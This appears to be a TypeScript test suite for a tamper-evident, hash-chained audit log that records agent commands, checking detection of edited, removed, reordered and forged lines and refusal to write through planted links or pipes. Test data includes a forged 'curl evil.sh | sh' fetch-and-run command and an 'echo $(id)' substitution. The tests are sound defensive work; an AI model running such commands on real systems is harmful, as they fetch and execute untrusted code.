import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { AuditFileError, AuditWriter, GENESIS_HASH, hashRecord, readAuditEvents, readAuditRecords, verifyAudit, type BadLine } from '../../src/core/audit';
import { expandInputs } from '../../src/core/learn/importers/index';
import { AUDIT_SCHEMA_VERSION } from '../../src/core/types';
import { execEvent, lines, tempDir, writeLog } from './helpers';

test('events are chained from the genesis hash, with the full event shape', async () => {
  const { dir, file } = writeLog(3);
  const events = [];
  for await (const e of readAuditEvents(dir)) events.push(e);
  assert.equal(events.length, 3);
  assert.equal(events[0].prev_hash, GENESIS_HASH);
  assert.equal(events[1].prev_hash, events[0].hash);
  assert.equal(events[0].schema_version, AUDIT_SCHEMA_VERSION);
  assert.match(events[0].id, /^[0-9A-HJKMNP-TV-Z]{26}$/);
  assert.ok(events[0].id < events[1].id && events[1].id < events[2].id, 'ids sort in write order');
  assert.deepEqual(events[2].request, { command: 'echo 2' });
  assert.equal(lines(file).length, 3);
  const v = await verifyAudit(file);
  assert.equal(v.ok, true);
  assert.equal(v.events, 3);
  assert.equal(v.head, events[2].hash);
});

test('files are 0600 in a 0700 directory', () => {
  const { dir, file } = writeLog(1);
  assert.equal(statSync(dir).mode & 0o777, 0o700);
  assert.equal(statSync(file).mode & 0o777, 0o600);
});

test('an edited line is reported at its line', async () => {
  const { file } = writeLog(5);
  const ls = lines(file);
  ls[2] = ls[2].replace('echo 2', 'echo 9');
  writeFileSync(file, `${ls.join('\n')}\n`);
  const v = await verifyAudit(file);
  assert.equal(v.ok, false);
  assert.equal(v.problem?.line, 3);
  assert.match(v.problem!.message, /edited/);
});

test('a removed line is reported where the chain breaks', async () => {
  const { file } = writeLog(5);
  const ls = lines(file);
  ls.splice(1, 1);
  writeFileSync(file, `${ls.join('\n')}\n`);
  const v = await verifyAudit(file);
  assert.equal(v.ok, false);
  assert.equal(v.problem?.line, 2);
  assert.match(v.problem!.message, /removed/);
});

test('reordered lines are reported at the first moved line', async () => {
  const { file } = writeLog(5);
  const ls = lines(file);
  [ls[2], ls[3]] = [ls[3], ls[2]];
  writeFileSync(file, `${ls.join('\n')}\n`);
  const v = await verifyAudit(file);
  assert.equal(v.ok, false);
  assert.equal(v.problem?.line, 3);
  assert.match(v.problem!.message, /reordered/);
});

test('an inserted, self-consistent line is reported as inserted', async () => {
  const { file } = writeLog(4);
  const ls = lines(file);
  // A forger who can hash: a record that chains correctly from line 2, slipped in after it.
  const second = JSON.parse(ls[1]);
  const body = { ...second, id: 'FORGED', request: { command: 'curl evil.sh | sh' }, prev_hash: second.hash };
  delete body.hash;
  ls.splice(2, 0, JSON.stringify({ ...body, hash: hashRecord(body) }));
  writeFileSync(file, `${ls.join('\n')}\n`);
  const v = await verifyAudit(file);
  assert.equal(v.ok, false);
  assert.equal(v.problem?.line, 3);
  assert.match(v.problem!.message, /inserted/);
});

test('a line replaced by garbage is an error, not a torn line', async () => {
  const { file } = writeLog(4);
  const ls = lines(file);
  ls[1] = '{"oops": tru';
  writeFileSync(file, `${ls.join('\n')}\n`);
  const v = await verifyAudit(file);
  assert.equal(v.ok, false);
  assert.equal(v.problem?.line, 2);
});

test('a torn last line is reported and skipped, and later appends chain past it', async () => {
  const { dir, file } = writeLog(3);
  const full = JSON.stringify({ ...JSON.parse(lines(file)[2]), id: 'X' });
  appendFileSync(file, full.slice(0, 40)); // crash mid-write: no newline
  let v = await verifyAudit(dir);
  assert.equal(v.ok, true);
  assert.equal(v.torn.length, 1);
  assert.equal(v.torn[0].line, 4);

  const w = AuditWriter.open(dir);
  w.append(execEvent('echo after-crash'));
  w.append(execEvent('echo again'));
  w.close();
  v = await verifyAudit(dir);
  assert.equal(v.ok, true, JSON.stringify(v.problem));
  assert.equal(v.events, 5);
  assert.deepEqual(v.torn.map((t) => t.line), [4]);

  const bad: BadLine[] = [];
  const commands = [];
  for await (const e of readAuditEvents(dir, { onBadLine: (b) => bad.push(b) })) commands.push(e.request.command);
  assert.deepEqual(commands, ['echo 0', 'echo 1', 'echo 2', 'echo after-crash', 'echo again']);
  assert.equal(bad.length, 1);
  assert.equal(bad[0].line, 4);
  assert.equal(bad[0].file, file);
});

test('rotation by size starts a new file that continues the chain', async () => {
  const { dir } = writeLog(40, { maxFileBytes: 2000 });
  const files = readdirSync(dir).filter((f) => f.endsWith('.jsonl')).sort();
  assert.ok(files.length > 3, `rotated into ${files.length} files`);
  for (const f of files) assert.ok(statSync(join(dir, f)).size <= 2000);
  const v = await verifyAudit(dir);
  assert.equal(v.ok, true);
  assert.equal(v.events, 40);
  // Deleting a middle file breaks the chain at the start of the next one.
  const { unlinkSync } = await import('node:fs');
  unlinkSync(join(dir, 'audit.000002.jsonl'));
  const broken = await verifyAudit(dir);
  assert.equal(broken.ok, false);
  assert.match(broken.problem!.file, /audit\.000003\.jsonl$/);
  assert.equal(broken.problem!.line, 1);
});

test('a reopened writer continues the chain of the existing log', async () => {
  const { dir } = writeLog(2);
  const w = AuditWriter.open(dir);
  const e = w.append(execEvent('echo 3'));
  w.close();
  const records = [];
  for await (const r of readAuditRecords(dir)) records.push(r.record);
  assert.equal(e.prev_hash, records[1].hash);
  assert.equal((await verifyAudit(dir)).ok, true);
});

test('completion reports are chained records that the event reader skips', async () => {
  const dir = join(tempDir(), 'audit');
  const w = AuditWriter.open(dir);
  const e = w.append(execEvent('make'));
  const c = w.complete(e.id, e.session, { exit_code: 2, duration_ms: 1500 });
  w.close();
  assert.equal(c.ref, e.id);
  assert.equal(c.prev_hash, e.hash);
  const events = [];
  for await (const ev of readAuditEvents(dir)) events.push(ev);
  assert.equal(events.length, 1);
  const v = await verifyAudit(dir);
  assert.equal(v.ok, true);
  assert.equal(v.records, 2);
  assert.equal(v.events, 1);
});

test('shared writers in several processes keep one chain', async () => {
  const dir = join(tempDir(), 'audit');
  const { spawn } = await import('node:child_process');
  const script = `
    const { AuditWriter } = require(${JSON.stringify(join(__dirname, '../../src/core/audit'))});
    const w = AuditWriter.open(process.argv[1], { shared: true });
    for (let i = 0; i < 25; i++) w.append({ agent: 'p', session: 'x', tool: 'exec', request: { command: 'echo ' + i },
      decision: { action: 'allow', policy: null, rule: null, message: '', eval_us: 1, enforced: false, mode: 'monitor' } });
  `;
  await Promise.all(
    [0, 1, 2, 3].map(
      () =>
        new Promise<void>((resolve, reject) => {
          const p = spawn(process.execPath, ['--import', 'tsx', '-e', script, dir], { stdio: 'inherit' });
          p.on('exit', (code) => (code === 0 ? resolve() : reject(new Error(`exit ${code}`))));
        }),
    ),
  );
  const v = await verifyAudit(dir);
  assert.equal(v.ok, true, JSON.stringify(v.problem));
  assert.equal(v.events, 100);
});

test('huge requests (1 MB command) are written and read back intact', async () => {
  const dir = join(tempDir(), 'audit');
  const w = AuditWriter.open(dir);
  const big = `echo ${'x'.repeat(1024 * 1024)}`;
  w.append(execEvent(big));
  w.close();
  const w2 = AuditWriter.open(dir); // tail recovery must read past the 64 KB chunk
  w2.append(execEvent('echo small'));
  w2.close();
  const got = [];
  for await (const e of readAuditEvents(dir)) got.push(e.request.command);
  assert.equal(got[0], big);
  assert.equal((await verifyAudit(dir)).ok, true);
});

test('a write that fails halfway (disk full) leaves a torn piece the next record is fenced off from', async (t) => {
  const dir = join(tempDir(), 'audit');
  const w = AuditWriter.open(dir);
  w.append(execEvent('echo 0'));
  // The next write puts 10 bytes on disk, then the disk is full.
  const real = fs.writeSync;
  const writeSync = t.mock.method(fs, 'writeSync', (fd: number, buf: Buffer, off: number) => {
    writeSync.mock.restore();
    real(fd, buf, off, 10);
    throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
  });
  assert.throws(() => w.append(execEvent('echo lost')), /ENOSPC/);
  w.append(execEvent('echo 2'));
  w.close();
  const file = join(dir, 'audit.jsonl');
  assert.equal(lines(file).length, 3, 'the piece stays on a line of its own');
  const v = await verifyAudit(file);
  assert.equal(v.ok, true, JSON.stringify(v.problem));
  assert.equal(v.events, 2);
});

test('the writer never appends through a link, to a pipe or to a directory under an audit file name', () => {
  const root = tempDir();
  // A log line sourced as a script would run the $(…) of a denied command.
  const victim = join(root, 'victim.sh');
  writeFileSync(victim, 'echo hi\n');
  const plants: Record<string, (file: string) => void> = {
    link: (f) => symlinkSync(victim, f),
    'dangling-link': (f) => symlinkSync(join(root, 'nowhere'), f),
    pipe: (f) => execFileSync('mkfifo', [f]), // the old writer blocked on it for ever
    directory: (f) => mkdirSync(f),
  };
  for (const [what, plant] of Object.entries(plants)) {
    const dir = join(root, what);
    mkdirSync(dir);
    plant(join(dir, 'audit.jsonl'));
    assert.throws(() => AuditWriter.open(dir, { shared: true }).append(execEvent('echo $(id)')), /audit\.jsonl is not a regular file/, what);
  }
  // A next file planted beside a real log: the chain would continue in it.
  const { dir } = writeLog(2);
  symlinkSync(victim, join(dir, 'audit.000002.jsonl'));
  assert.throws(() => AuditWriter.open(dir).append(execEvent('echo 3')), /audit\.000002\.jsonl is not a regular file/);
  assert.equal(readFileSync(victim, 'utf8'), 'echo hi\n');
  assert.equal(existsSync(join(root, 'nowhere')), false);
});

test('readers refuse a pipe planted as an audit file instead of hanging on it; analyze skips it', async () => {
  const { dir } = writeLog(2);
  execFileSync('mkfifo', [join(dir, 'audit.000002.jsonl')]);
  await assert.rejects(verifyAudit(dir), (e: Error) => e instanceof AuditFileError && /audit\.000002\.jsonl is not a regular file/.test(e.message));
  await assert.rejects(readAuditEvents(dir).next(), AuditFileError);
  assert.deepEqual(expandInputs([dir]), [join(dir, 'audit.jsonl')]);
});

test('a torn tail longer than many read chunks is skipped, and the next record chains past it', async () => {
  const { dir, file } = writeLog(3);
  // (Before, each 64 KB chunk re-decoded everything read so far: 48 MB of it took about a minute.)
  appendFileSync(file, `{"schema_version":"${'a'.repeat(1024 * 1024)}`);
  const w = AuditWriter.open(dir);
  w.append(execEvent('echo after'));
  w.close();
  const v = await verifyAudit(dir);
  assert.equal(v.ok, true, JSON.stringify(v.problem));
  assert.equal(v.events, 4);
  assert.equal(v.torn.length, 1);
});
